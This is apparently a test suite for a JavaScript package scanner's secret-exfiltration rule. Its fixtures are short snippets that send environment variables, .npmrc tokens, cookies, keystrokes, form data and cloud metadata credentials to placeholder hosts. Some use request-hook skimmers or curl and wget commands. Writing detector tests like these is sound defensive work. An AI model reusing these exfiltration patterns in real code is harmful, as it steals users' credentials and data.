import { describe, expect, it } from 'vitest';
import { jsFindings, ruleFindings } from '../helpers.js';

describe('JS-010 secret-exfiltration-flow', () => {
  it('follows process.env through JSON.stringify and a variable to req.write', async () => {
    const code = `const https = require('https');
      const data = JSON.stringify({ env: process.env });
      const req = https.request({ hostname: 'x.invalid', method: 'POST' });
      req.write(data); req.end();`;
    const f = await ruleFindings('JS-010', code);
    expect(f).toHaveLength(1);
    expect(f[0]!.severity).toBe('critical');
    const flow = f[0]!.evidence?.flow as Array<{ step: string; line: number }>;
    expect(flow[0]).toMatchObject({ step: 'source', line: 2 });
    expect(flow.at(-1)).toMatchObject({ step: 'sink', line: 4 });
  });
  it('follows a credential file through a local helper function and encoding', async () => {
    const code = `const fs = require('fs'), os = require('os'), path = require('path');
      function grab() { return fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); }
      const enc = Buffer.from(grab()).toString('base64');
      fetch('https://x.invalid/c?d=' + enc);`;
    const f = await ruleFindings('JS-010', code);
    expect(f[0]?.evidence?.sources).toContain('.npmrc');
  });
  it('follows browser form data to $.ajax', async () => {
    const f = await ruleFindings(
      'JS-010',
      "$.ajax({ url: 'https://x.invalid/?k=' + $('form').serialize() })",
    );
    expect(f).toHaveLength(1);
  });
  it('follows cookies into an image beacon URL', async () => {
    const f = await ruleFindings(
      'JS-010',
      "const i = new Image(); i.src = 'https://x.invalid/p?c=' + encodeURIComponent(document.cookie);",
    );
    expect(f).toHaveLength(1);
    expect(f[0]!.severity).toBe('critical');
    const plain = await ruleFindings('JS-010', "const i = new Image(); i.src = '/static/logo.png';");
    expect(plain).toHaveLength(0);
  });
  it('treats keystrokes as browser data', async () => {
    const code = `let keys = ''; document.addEventListener('keydown', e => { keys += e.key; });
      setInterval(() => navigator.sendBeacon('https://x.invalid/k', keys), 5000);`;
    expect(await ruleFindings('JS-010', code)).toHaveLength(1);
  });
  it('tracks exports across the package own modules', async () => {
    const f = await jsFindings({
      'index.js':
        "const info = require('./collect'); require('https').request({ host: 'x.invalid' }).end(JSON.stringify(info));",
      'collect.js': 'module.exports = { env: process.env };',
    });
    const flow = f.find((x) => x.ruleId === 'JS-010');
    expect(flow?.file).toBe('index.js');
    expect(flow?.message).toContain('collect.js');
  });
  it('does not fire for npm config variables or values that never reach the network', async () => {
    const code = `const proxy = process.env.npm_config_proxy; fetch('https://registry.invalid/x', { agent: proxy });
      const t = process.env.GITHUB_TOKEN; console.log(t ? 'token set' : 'no token');`;
    expect(await ruleFindings('JS-010', code)).toHaveLength(0);
  });
});

describe('JS-010 source precision', () => {
  it('does not treat any object serialize() as form data', async () => {
    const code =
      "const u = new URLState(); u.href = serializer.serialize(u.parts); fetch('https://x.invalid/' + u.serialize());";
    expect(await ruleFindings('JS-010', code)).toHaveLength(0);
  });
  it('keeps jQuery passed in as a parameter', async () => {
    const code = "(function ($) { $.post('https://x.invalid/f', $('form#login').serialize()); })(jQuery);";
    expect(await ruleFindings('JS-010', code)).toHaveLength(1);
  });
});

describe('JS-010 objects derived from the whole environment', () => {
  const prefix = `const env = schema.parse(process.env);\n`;
  it('reading one configuration variable from them is not sending the environment', async () => {
    const code = `${prefix}const agent = env.HTTPS_PROXY ? new ProxyAgent(env.HTTPS_PROXY) : undefined;
      fetch(env.REGISTRY_URL + '/index.json', { dispatcher: agent });`;
    expect(await ruleFindings('JS-010', code)).toHaveLength(0);
  });
  it('a secret-named variable read from them is still a secret flow', async () => {
    const f = await ruleFindings(
      'JS-010',
      `${prefix}fetch('https://x.invalid/t', { method: 'POST', body: env.NPM_TOKEN });`,
    );
    expect(f).toHaveLength(1);
    expect(f[0]!.message).toMatch(/process\.env\.NPM_TOKEN/);
  });
  it('the whole object, or its keys joined, is still the whole environment', async () => {
    for (const body of ['JSON.stringify(env)', "Object.keys(env).join(',')"]) {
      const f = await ruleFindings(
        'JS-010',
        `${prefix}fetch('https://x.invalid/t', { method: 'POST', body: ${body} });`,
      );
      expect(f, body).toHaveLength(1);
      expect(f[0]!.severity, body).toBe('critical');
    }
  });
});

describe('JS-010 guards are not data', () => {
  it('`process.env && process.env.BASE_URL` carries one variable, not the environment', async () => {
    const code = `const base = (typeof process !== 'undefined' && process.env && process.env.API_BASE_URL) || 'https://api.example.invalid';
      fetch(base + '/emails', { method: 'POST', body: JSON.stringify({ to: 'a' }) });`;
    expect(await ruleFindings('JS-010', code)).toHaveLength(0);
  });
  it('`process.env || {}` is still the whole environment', async () => {
    const code = `fetch('https://x.invalid/c', { method: 'POST', body: JSON.stringify(process.env || {}) });`;
    const f = await ruleFindings('JS-010', code);
    expect(f).toHaveLength(1);
    expect(f[0]!.severity).toBe('critical');
  });
});

describe('JS-010 data that is the destination, not the payload', () => {
  it('a form field used as the whole URL (fetch the logo the user typed) is not exfiltration', async () => {
    const code = `async function onSubmit(event) {
        const data = new FormData(event.target);
        const url = data.get('logo-url');
        const res = await axios.get(url.toString(), { responseType: 'blob' });
        return res.data;
      }`;
    expect(await ruleFindings('JS-010', code)).toHaveLength(0);
  });
  it('form data in the query of a constant host, or in the body, is', async () => {
    const query = `document.querySelector('form').addEventListener('submit', (e) => {
        const data = new FormData(e.target);
        fetch('https://collector.example.invalid/c?d=' + new URLSearchParams(data).toString());
      });`;
    expect(await ruleFindings('JS-010', query)).toHaveLength(1);
    const body = `function send(form) { const d = new FormData(form); return axios.post(form.action, d); }`;
    expect(await ruleFindings('JS-010', body)).toHaveLength(1);
    const variable = `const d = new FormData(form); const u = 'https://x.invalid/?q=' + JSON.stringify(Object.fromEntries(d)); fetch(u);`;
    expect(await ruleFindings('JS-010', variable)).toHaveLength(1);
  });
});

describe('token commands', () => {
  it('`npm config get prefix` output is a path, not a secret; the auth token is', async () => {
    const prefix = `const cp = require('child_process'); const p = cp.execSync('npm config get prefix').toString(); fetch('https://x.invalid/c?p=' + p);`;
    expect(await ruleFindings('JS-010', prefix)).toHaveLength(0);
    const token = `const cp = require('child_process'); const t = cp.execSync('npm config get //registry.npmjs.org/:_authToken').toString(); fetch('https://x.invalid/c?t=' + t);`;
    expect(await ruleFindings('JS-010', token)).toHaveLength(1);
  });
  it('follows a module loaded with import().then into the callback', async () => {
    const code =
      "import('node-fetch').then(({ default: f }) => f('https://x.invalid/c', { method: 'POST', body: JSON.stringify(process.env) }));";
    const f = await ruleFindings('JS-010', code);
    expect(f).toHaveLength(1);
    expect(f[0]!.severity).toBe('critical');
    // a package's own module handed the environment is not a request
    const local = "import('./config').then((m) => m.load(process.env));";
    expect(await ruleFindings('JS-010', local)).toHaveLength(0);
  });
  it('sees secrets in the command line of a network client the code starts', async () => {
    const code =
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the fixture is JavaScript source with a template literal
      "const { exec } = require('child_process');\nexec(`curl -s -X POST -d '${JSON.stringify(process.env)}' https://x.invalid/c`);";
    const f = await ruleFindings('JS-010', code);
    expect(f).toHaveLength(1);
    expect(f[0]!.severity).toBe('critical');
    expect(f[0]!.message).toContain('network client');
    const wget =
      "require('child_process').spawn('wget', ['--post-data', JSON.stringify(process.env), 'https://x.invalid/c']);";
    expect(await ruleFindings('JS-010', wget)).toHaveLength(1);
  });
  it('does not treat other commands given env values as exfiltration', async () => {
    const code = `const { exec, execSync } = require('child_process');
      exec(\`git commit -m "\${process.env.MESSAGE}"\`);
      execSync('curl -fsSL https://x.invalid/install.sh -o /tmp/i.sh', { env: process.env });
      exec(\`echo \${JSON.stringify(process.env)} > env.json\`);`;
    expect(await ruleFindings('JS-010', code)).toHaveLength(0);
  });
});

describe('JS-010 request hooks (skimmers)', () => {
  it('flags an XMLHttpRequest.send hook that beacons the body elsewhere', async () => {
    const code = `const send = XMLHttpRequest.prototype.send;
      XMLHttpRequest.prototype.send = function (body) {
        navigator.sendBeacon('https://x.invalid/c', JSON.stringify({ b: body }));
        return send.apply(this, arguments);
      };`;
    const f = await ruleFindings('JS-010', code);
    expect(f).toHaveLength(1);
    expect(f[0]!.severity).toBe('critical');
    expect(f[0]!.message).toMatch(
      /page's request data \(parameters of a XMLHttpRequest\.prototype\.send hook\).*sendBeacon/,
    );
  });
  it('flags a fetch hook that copies request bodies out, and a setRequestHeader hook that copies tokens', async () => {
    const fetchHook = `const of = window.fetch;
      window.fetch = async function (input, init) {
        new XMLHttpRequest().open('POST', 'https://x.invalid/k'); navigator.sendBeacon('https://x.invalid/k', init && init.body);
        return of(input, init);
      };`;
    expect(await ruleFindings('JS-010', fetchHook)).toHaveLength(1);
    const header = `const h = XMLHttpRequest.prototype.setRequestHeader;
      XMLHttpRequest.prototype.setRequestHeader = function (name, value) {
        if (/auth/i.test(name)) fetch('https://x.invalid/t', { method: 'POST', body: value });
        return h.call(this, name, value);
      };`;
    expect(await ruleFindings('JS-010', header)).toHaveLength(1);
  });
  it('ignores wrappers that pass requests on to the original, and monitoring of URLs and timings', async () => {
    const wrapper = `const of = window.fetch;
      window.fetch = function (input, init) { const t = Date.now(); return of(input, init).finally(() => record(Date.now() - t)); };`;
    expect(await ruleFindings('JS-010', wrapper)).toHaveLength(0);
    const rum = `const open = XMLHttpRequest.prototype.open; const send = XMLHttpRequest.prototype.send;
      XMLHttpRequest.prototype.open = function (method, url) {
        navigator.sendBeacon('https://rum.x.invalid/v1', JSON.stringify({ method, url, t: performance.now() }));
        return open.apply(this, arguments);
      };
      XMLHttpRequest.prototype.send = function (body) { this._size = body ? body.length : 0; return send.call(this, body); };`;
    expect(await ruleFindings('JS-010', rum)).toHaveLength(0);
  });
});

describe('JS-010 cloud credentials from the metadata service', () => {
  it('flags instance credentials posted to another host', async () => {
    const aws = `fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/')
      .then((r) => r.text()).then((t) => fetch('https://x.invalid/c', { method: 'POST', body: t }));`;
    const f = await ruleFindings('JS-010', aws);
    expect(f).toHaveLength(1);
    expect(f[0]!.message).toMatch(/cloud credentials \(http:\/\/169\.254\.169\.254\/latest\/meta-data\/iam/);
    expect(f[0]!.severity).toBe('critical');
    const gcp = `const axios = require('axios');
      (async () => { const { data } = await axios.get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', { headers: { 'Metadata-Flavor': 'Google' } });
        await axios.post('https://discord.com/api/webhooks/1/x', { content: JSON.stringify(data) }); })();`;
    expect(await ruleFindings('JS-010', gcp)).toHaveLength(1);
  });
  it('ignores credential providers: the role URL, signed cloud API calls, endpoints built at run time', async () => {
    const provider = `async function creds() {
        const role = await (await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/')).text();
        const c = await (await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/' + role)).json();
        await fetch('https://sts.us-east-1.amazonaws.com/', { method: 'POST', headers: { 'x-amz-security-token': c.Token } });
        return fetch(endpointFor(region), { headers: { authorization: sign(c) } });
      }
      module.exports = creds;`;
    expect(await ruleFindings('JS-010', provider)).toHaveLength(0);
    // the metadata service's other paths (instance id, region) are not credentials
    const meta = `fetch('http://169.254.169.254/latest/meta-data/instance-id').then((r) => r.text())
      .then((id) => fetch('https://telemetry.x.invalid/v1', { method: 'POST', body: id }));`;
    expect(await ruleFindings('JS-010', meta)).toHaveLength(0);
  });
});

describe('JS-010 what is not the network, and what is one item', () => {
  it('ignores a local socket (a daemon over a Unix socket or a localhost port), not a remote one', async () => {
    const ipc = `const { connect } = require('net');
      function send(paths, payload) { const s = connect(paths.socket); s.write(JSON.stringify(payload)); }
      module.exports = () => send(paths, { env: process.env });`;
    expect(await ruleFindings('JS-010', ipc)).toHaveLength(0);
    const remote = `const net = require('net');
      const s = net.connect(4444, '192.0.2.1'); s.write(JSON.stringify(process.env));`;
    expect(await ruleFindings('JS-010', remote)).toHaveLength(1);
    const remoteOptions = `const net = require('net');
      net.createConnection({ host: 'x.invalid', port: 80 }).write(JSON.stringify(process.env));`;
    expect(await ruleFindings('JS-010', remoteOptions)).toHaveLength(1);
  });
  it('one storage item is a weaker source than the whole storage', async () => {
    // in the package main, where a web app sends its own session token, one item weighs medium
    const item =
      "fetch('https://api.x.invalid/refresh', { method: 'POST', body: localStorage.getItem('refresh_token') });";
    expect((await ruleFindings('JS-010', item))[0]?.severity).toBe('medium');
    const viaHelper = `const store = () => globalThis.localStorage;
      const s = store(); fetch('https://api.x.invalid/t', { method: 'POST', body: s.getItem('k') });`;
    expect((await ruleFindings('JS-010', viaHelper))[0]?.severity).toBe('medium');
    const all = "fetch('https://x.invalid/c', { method: 'POST', body: JSON.stringify(localStorage) });";
    expect((await ruleFindings('JS-010', all))[0]?.severity).toBe('critical');
  });
});
